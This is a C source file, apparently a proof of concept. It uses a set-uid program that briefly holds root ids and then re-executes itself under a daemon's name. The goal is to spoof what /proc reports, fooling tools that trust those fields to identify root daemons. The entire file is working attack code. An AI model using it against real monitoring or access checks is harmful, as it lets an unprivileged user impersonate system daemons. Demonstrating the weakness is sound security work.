/* SPDX-License-Identifier: Apache-2.0 */

/*
 * A user's attack on whoever takes a process for a daemon by what /proc shows of it. Installed set-uid, this is root by
 * all of its ids for a moment, as sudo is until it asks for a password; then it is its user again, and executes a
 * program that root has installed by the daemon's name, which executes the set-uid one again. Number, start, name and
 * arguments stay what the user has chosen.
 *
 * usage: DAEMON OPTION SET-UID-PROGRAM PROGRAM
 */

#include <stdlib.h>
#include <time.h>
#include <unistd.h>

enum { PAUSE_NS = 1000000 };

static void set_uid_daemon_pause(void)
{
	struct timespec pause;

	(void)clock_gettime(CLOCK_MONOTONIC, &pause);
	pause = (struct timespec){.tv_nsec = pause.tv_nsec % PAUSE_NS};
	(void)nanosleep(&pause, NULL);
}

int main(int argc, char **argv)
{
	uid_t user = getuid();
	const char *next = argv[argc - 2];

	if (argc < 4)
		return EXIT_FAILURE;
	if (geteuid() != user) {
		if (setresuid(0, 0, 0) < 0)
			return EXIT_FAILURE;
		set_uid_daemon_pause();
		if (setresuid(user, user, user) < 0)
			return EXIT_FAILURE;
		next = argv[argc - 1];
	} else {
		set_uid_daemon_pause();
	}
	(void)execv(next, argv);
	return EXIT_FAILURE;
}
